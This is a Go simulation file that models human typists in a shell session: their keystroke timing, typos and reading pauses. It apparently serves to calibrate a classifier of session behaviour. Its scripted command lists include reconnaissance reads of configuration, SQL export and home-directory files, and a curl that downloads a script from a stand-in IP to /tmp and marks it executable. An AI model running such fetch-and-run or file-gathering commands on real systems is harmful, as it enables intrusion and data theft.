package simulate

// person is someone who types: their pace and their slips.
type person struct {
	*tape
	pace  int64 // of the median gap, in thousandths
	slips int64 // mistyped letters in a thousand
}

// newPerson draws a person. Medians of real people lie between 88 and 406 ms.
func newPerson(t *tape) person {
	return person{tape: t, pace: t.between(750, 1500), slips: t.between(20, 60)}
}

// keyGaps are gaps between keys, before the hand and the two keys are known.
var keyGaps = []quantile{{0, 50 * ms}, {10, 60 * ms}, {50, 85 * ms}, {250, 122 * ms}, {500, 155 * ms},
	{750, 215 * ms}, {950, 600 * ms}, {990, 1200 * ms}, {1000, 1400 * ms}}

// noticing is the time from a slip to the key that takes it back.
var noticing = []quantile{{0, 180 * ms}, {500, 420 * ms}, {900, 900 * ms}, {1000, 1300 * ms}}

// hesitation is what comes on top of reading before a person goes on.
var hesitation = []quantile{{0, 500 * ms}, {500, 1200 * ms}, {900, 2600 * ms}, {1000, 4000 * ms}}

// neighbours holds, for each letter from a on, one beside it on a keyboard.
const neighbours = "svxsrdhjoklknmpowtayicezux"

// kinds of keys, as far as layouts agree.
const (
	letter = iota
	space
	backspace
	sign
)

func kind(key byte) int {
	switch {
	case key >= 'a' && key <= 'z':
		return letter
	case key == ' ':
		return space
	case key == 0x7f:
		return backspace
	}
	return sign
}

// betweenKinds is the gap from a key of one kind (the row) to one of another,
// in thousandths of an ordinary one: signs lie far from the hand, and a letter
// comes slower after a space than after a letter. As in [keyGaps], the numbers
// are chosen for a simulation; nobody measured them.
var betweenKinds = [...][4]int64{
	letter:    {950, 800, 1300, 1600},
	space:     {1250, 1050, 1300, 1700},
	backspace: {1200, 1250, 800, 1500},
	sign:      {1200, 1100, 1300, 1050},
}

// ease is the gap between two keys in thousandths of an ordinary one. Each hand
// has a habit of its own for each two keys: from three quarters to five quarters
// of what their kinds give, and the same again whenever they come.
func (p person) ease(last, next byte) int64 {
	habit := (uint32(last)<<8|uint32(next))*2654435761 ^ uint32(p.pace)*40503
	return betweenKinds[kind(last)][kind(next)] * (750 + int64(habit>>8)%500) / 1000
}

// gap is how long a person takes from the last key to the next.
func (p person) gap(next byte) int64 {
	return p.draw(keyGaps) * p.pace / 1000 * p.ease(p.struck, next) / 1000
}

// typed types a line and ends it, and gives the size of the answer.
func (p person) typed(line string) int64 {
	p.keys(line)
	p.key("\r", "\r\n", p.gap('\r')+80*ms)
	return p.answer(line)
}

// keys types text, now and then with a slip that is noticed and taken back.
func (p person) keys(text string) {
	for i := 0; i < len(text); i++ {
		if c := text[i]; c >= 'a' && c <= 'z' && p.chance(p.slips) {
			wrong := neighbours[c-'a' : c-'a'+1]
			p.key(wrong, wrong, p.gap(wrong[0]))
			p.key("\x7f", "\b \b", p.draw(noticing))
		}
		p.key(text[i:i+1], text[i:i+1], p.gap(text[i]))
	}
}

// reading waits as long as it takes to read so much, and to think.
func (p person) reading(size int64) {
	p.wait(min(size, 2500)*11*ms + p.draw(hesitation))
}

// errand is what a curious person does on a machine that is new to them: the
// same few tools again and again, each step led by what the one before showed.
var errand = []string{
	"id", "uname -a", "ls -la", "cat /etc/os-release", "ls /srv/www", "cd /srv/www", "ls -la", "cat index.html", "ls /opt",
	"ls /opt/shop", "cat /opt/shop/orders.conf", "ps aux", "cat /opt/shop/old.conf", "ls /var/lib/shop", "cat /var/lib/shop/export.sql",
	"cd /var/log/web", "ls", "cat access.log", "ps aux", "ls /home", "cat /home/ops/report.txt", "lls /home/ops", "ls /home/ops",
}

// explore goes on an errand, reads what is shown, and leaves.
func explore(t *tape) {
	p := newPerson(t)
	p.land()
	p.reading(120)
	for _, line := range some(p.dice, errand, 15) {
		p.reading(p.typed(line))
	}
	p.typed("exit")
}

var typist = Visitor{
	Name: "typist",
	Doc:  "A person who types every key, makes slips, reads what is shown and goes on from there.",
	Shows: []Shown{
		{"motor.input_modality", []string{"typed"}},
		{"motor.paste_burst_rate", []string{"none"}},
		{"motor.keystroke_cadence", []string{"steady", "bursty"}},
		{"cognitive.feedback_loop_engagement", []string{"closed_loop"}},
		{"temporal.lifecycle_markers.exit_behavior", []string{"abrupt", "graceful"}},
	},
	play: explore,
}

var human = Visitor{
	Name: "human",
	Doc:  "Calibration class: typed, in a closed loop, branching as the output leads.",
	Shows: []Shown{
		{"motor.input_modality", []string{"typed"}},
		{"cognitive.feedback_loop_engagement", []string{"closed_loop"}},
		{"cognitive.command_branch_diversity", []string{"adaptive_branching"}},
	},
	play: explore,
}

// mixture is what the paster has ready; the short lines are typed.
var mixture = []string{
	"w", "curl -s http://198.51.100.7/inventory.sh -o /tmp/inventory.sh", "chmod 700 /tmp/inventory.sh", "ls /tmp",
	"find /srv/www -name '*.php' -newer /etc/web/access.conf", "df -h", "grep -rn upload_limit /etc/web /opt/shop --include=*.conf",
	"ps aux", "systemctl list-units --type=service --state=running", "tar czf /tmp/report.tgz /opt/shop/report /var/log/web",
	"id", "python3 -c 'print(sum(range(10)))'",
}

var paster = Visitor{
	Name: "paster",
	Doc:  "A person who types short commands and pastes long ones from notes.",
	Shows: []Shown{
		{"motor.input_modality", []string{"mixed"}},
		{"motor.paste_burst_rate", []string{"none", "occasional"}},
	},
	play: func(t *tape) {
		p := newPerson(t)
		p.land()
		p.reading(120)
		for _, line := range mixture {
			if len(line) < 8 {
				p.reading(p.typed(line))
				continue
			}
			p.send(line, line)
			p.key("\r", "\r\n", p.between(300*ms, 900*ms))
			p.reading(p.answer(line))
		}
		p.typed("exit")
	},
}

var rawBytes = Visitor{
	Name: "raw",
	Doc:  "A person whose keyboard sends Latin-1, and output that is no text: every byte value, and characters that are cut.",
	Shows: []Shown{
		{"motor.input_modality", []string{"typed", "mixed"}},
	},
	play: func(t *tape) {
		p := newPerson(t)
		p.land()
		p.reading(120)
		p.reading(p.typed("ls caf\xe9"))
		p.reading(p.typed("\xe9cho na\xefve"))
		p.send("printf '\xde\xad\xbe\xef\x00\xff'", "printf '\xde\xad\xbe\xef'")
		p.key("\r", "\r\n", p.gap('\r'))
		for b := range 256 {
			p.wait(p.between(20, 90))
			p.print(string([]byte{byte(b)}))
		}
		for _, b := range []byte("\r\nna\u00efve \u20ac \U0001f600\r\n" + prompt) {
			p.wait(p.between(20, 90))
			p.print(string([]byte{b}))
		}
		p.reading(300)
		p.typed("exit")
	},
}
